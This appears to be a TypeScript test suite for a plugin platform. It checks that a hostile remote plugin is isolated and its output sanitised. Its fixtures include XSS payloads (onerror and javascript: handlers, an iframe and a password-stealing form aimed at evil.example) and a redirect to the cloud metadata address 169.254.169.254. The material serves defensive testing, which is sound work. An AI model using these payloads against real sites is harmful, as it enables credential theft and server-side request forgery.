import type { ServerResponse } from 'node:http'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { pinnedFetch } from '@liberacces/core'
import { definePlugin } from '@liberacces/sdk'
import { BureauTile } from '@liberacces/sdk/slots'
import { Tile } from '@liberacces/sdk/ui'
import { OPERATOR, startKernel, type Kernel } from '../kernel/kernel-kit.ts'
import { sendJson, startFakeApplication, type FakeApplication, type GotCall } from './fake-application.ts'

const ID = 'org.example.evil'
const HTML = { headers: { accept: 'text/html' } }

const neighbour = definePlugin()({
  id: 'org.example.neighbour', version: '1.0.0', path: 'voisin', sdk: '^0.1.0', license: 'MIT', title: { fr: 'Voisin' }, publisher: { name: 'Test', contact: 'https://example.org' },
  scopes: [], messages: { fr: { title: 'Voisin' }, en: { title: 'Neighbour' } }, privacy: { stores: [] },
  setup(k) { k.contribute(BureauTile, { title: 'title', icon: 'home', render: async () => <Tile>tuile du voisin</Tile> }) },
})

let kernel: Kernel
let application: FakeApplication

beforeAll(async () => {
  application = await startFakeApplication()
  kernel = await startKernel({ plugins: [neighbour], tenants: 2, network: 'real', env: { LIBERACCES_EGRESS_ALLOW: `${ID}=127.0.0.1`, LIBERACCES_BREAKER: 'off' } })
  await kernel.platform.applications.add(application.url, {}, OPERATOR)
  for (const index of [0, 1]) await kernel.platform.installations.enable(kernel.tenantId(index), ID, '*', OPERATOR)
})
afterAll(async () => {
  await kernel?.[Symbol.asyncDispose]()
  await application?.[Symbol.asyncDispose]()
})
beforeEach(() => { application.answer((_call, response) => { sendJson(response, { kind: 'result', value: { kind: 'reply', status: 200, body: { number: 1 }, headers: {} } }) }) })

/** Codes with which the application was blamed since. */
function blamedSince(lines: number): readonly unknown[] {
  return kernel.log.slice(lines).filter(({ plugin, code }) => plugin === ID && code !== undefined).map(({ code }) => code)
}

const FAULTS: readonly (readonly [string, number, string, (call: GotCall, response: ServerResponse) => void | Promise<void>])[] = [
  ['hangs', 504, 'PLUGIN_CALL_TIMEOUT', () => undefined],
  ['answers in drops', 504, 'PLUGIN_CALL_TIMEOUT', (_call, response) => {
    response.writeHead(200)
    const timer = setInterval(() => { response.write(' ') }, 20)
    response.on('close', () => { clearInterval(timer) })
  }],
  ['answers without end', 503, 'REMOTE_UNAVAILABLE', (_call, response) => {
    const more = (): void => { while (response.write(Buffer.alloc(262_144, 0x20))) { /* until the pipe is full */ } }
    response.on('drain', more)
    more()
  }],
  ['ends the connection', 503, 'REMOTE_UNAVAILABLE', (_call, response) => { response.destroy() }],
  ['answers with no JSON', 503, 'REMOTE_UNAVAILABLE', (_call, response) => { response.end('<html>') }],
  ['answers with an error page', 503, 'REMOTE_UNAVAILABLE', (_call, response) => { sendJson(response, { kind: 'result' }, 500) }],
  ['does not take the signature', 503, 'REMOTE_UNAVAILABLE', (_call, response) => { sendJson(response, {}, 401) }],
  ['sends on to somewhere inside', 503, 'REMOTE_UNAVAILABLE', (_call, response) => { response.writeHead(302, { location: 'http://169.254.169.254/' }).end() }],
  ['answers beside the protocol', 503, 'REMOTE_UNAVAILABLE', (_call, response) => { sendJson(response, { kind: 'result', value: null, tenant: 'commune-2' }) }],
  ['says that it failed', 500, 'PLUGIN_CALL_FAILED', (_call, response) => { sendJson(response, { kind: 'failure', error: { name: 'ValueError', message: 'secret of the application' } }) }],
  ['calls its own failure one of the platform', 500, 'PLUGIN_CALL_FAILED', (_call, response) => { sendJson(response, { kind: 'failure', error: { name: 'PlatformError', message: 'x', code: 'NOT_FOUND', passed: 1 } }) }],
  ['answers what it did not declare', 502, 'PLUGIN_ANSWER_INVALID', (_call, response) => { sendJson(response, { kind: 'result', value: { kind: 'reply', status: 200, body: { number: 'one' }, headers: {} } }) }],
  ['answers with nothing that an answer can be', 502, 'PLUGIN_ANSWER_INVALID', (_call, response) => { sendJson(response, { kind: 'result', value: { kind: 'reply', status: 200, body: {}, headers: {}, __proto__: null, more: 1 } }) }],
]

describe('an application', () => {
  test.each(FAULTS)('[R140] that %s costs its own answer, and is blamed by name', async (_what, status, code, handler) => {
    application.answer(handler)
    const before = kernel.log.length
    const answer = await kernel.visitor().get(status === 504 ? '/apps/evil/soon' : '/apps/evil/number')
    expect([answer.status, answer.json<{ readonly code: string }>().code]).toEqual([status, code])
    expect(answer.text).not.toContain('secret of')
    expect(blamedSince(before)).toContain(code)
  })

  test('[R140] that hangs costs its tile, and not that of its neighbour', async () => {
    const held: ServerResponse[] = []
    application.answer((_call, response) => { held.push(response) })
    const agent = await kernel.as('agent')
    const bureau = await agent.get('/bureau', HTML)
    expect([bureau.status, bureau.text.includes('tuile du voisin')]).toEqual([200, true])
    await expect.poll(() => held.length).toBe(1)
    for (const response of held) response.destroy()
  })

  test('[R140] whose HTML holds scripts, handlers, frames and forms to elsewhere is shown without them; its own forms carry the reader\'s token', async () => {
    application.answer(({ csrfToken }, response) => {
      sendJson(response, { kind: 'result', value: { kind: 'html', html: `<h2 onclick="steal()">Bonjour</h2><script>steal()</script><img src=x onerror=steal()><a href="javascript:steal()">lien</a><iframe src="https://evil.example/"></iframe>
        <form method="post" action="https://evil.example/"><input name="password"></form><style>body{display:none}</style>
        <form action="/apps/evil/">name="_csrf" value="${csrfToken}"<input type="hidden" name="_csrf" value="${csrfToken}"></form>
        <form method="post" action="/apps/evil/deed"><input type="hidden" name="_csrf" value="${csrfToken}"><textarea name="x">name="_csrf" value="${csrfToken}"</textarea><button>Faire</button></form>` } })
    })
    const agent = await kernel.as('agent')
    const { status, text } = await agent.get('/apps/evil/', HTML)
    expect(status).toBe(200)
    expect(text).toContain('Bonjour')
    expect(text).not.toMatch(/steal|evil\.example|display:none/)
    application.answer((_call, response) => { sendJson(response, { kind: 'result', value: { kind: 'redirect', to: '/' } }) })
    const token = /action="\/apps\/evil\/deed"[^]*?name="_csrf" value="([^"]+)"/.exec(text)?.[1] ?? ''
    const main = text.slice(text.indexOf('Bonjour'), text.indexOf('Faire'))
    expect([token.length > 20, main.split(token).length - 1, main.includes('<textarea name="x">name="_csrf" value=""</textarea>')]).toEqual([true, 1, true])
    expect((await agent.send('POST', '/apps/evil/deed', { form: { _csrf: token }, headers: { accept: 'text/html' } })).status).toBe(303)
    expect((await agent.send('POST', '/apps/evil/deed', { form: { _csrf: 'token-of-another' }, headers: { accept: 'text/html' } })).status).toBe(403)
  })

  test('[R136] asks within its call alone, and for its own tenant: afterwards the token opens nothing, and never another tenant', async () => {
    const asked: unknown[] = []
    const ask = async ({ url, token }: GotCall['callback'], id: number, host?: string): Promise<number> => {
      const to = new URL(`${url}/audit`)
      if (host !== undefined) to.hostname = host
      return (await pinnedFetch(to, { method: 'POST', body: JSON.stringify({ id, with: { action: 'evil.tried', target: String(id) } }), headers: { 'content-type': 'application/json', 'liberacces-call': token } }, ['127.0.0.1'])).status
    }
    let kept: GotCall['callback'] | undefined
    application.answer(async ({ callback, facts }, response) => {
      kept = callback
      const other = kernel.platform.tenants.bySlug(facts.tenant.slug === 'commune-1' ? 'commune-2' : 'commune-1')?.hosts[0]
      asked.push(await ask(callback, 1), await ask(callback, 1), await ask(callback, 2, other))
      sendJson(response, { kind: 'result', value: { kind: 'reply', status: 200, body: { number: 1 }, headers: {} } })
    })
    expect((await kernel.visitor(1).get('/apps/evil/number')).status).toBe(200)
    expect(asked).toEqual([200, 403, 403])
    if (kept === undefined) throw new Error('It was not called.')
    expect(await ask(kept, 3)).toBe(403)
    const trail = async (index: number) => (await kernel.platform.audit.list(kernel.tenantId(index), { limit: 10, action: 'evil.tried' })).map(({ target }) => target)
    expect([await trail(0), await trail(1)]).toEqual([[], ['1']])
  })
})
